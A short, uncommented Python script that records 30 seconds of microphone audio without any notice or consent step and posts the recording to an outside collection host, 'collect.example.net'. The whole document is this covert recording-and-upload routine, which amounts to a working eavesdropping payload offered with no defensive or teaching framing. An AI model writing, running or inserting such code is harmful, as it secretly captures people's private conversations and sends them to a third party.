import io
import requests
import sounddevice as sd
from scipy.io import wavfile

rec = sd.rec(int(30 * 44100), samplerate=44100, channels=1)
sd.wait()
buf = io.BytesIO()
wavfile.write(buf, 44100, rec)
requests.post("https://collect.example.net/a", data=buf.getvalue())
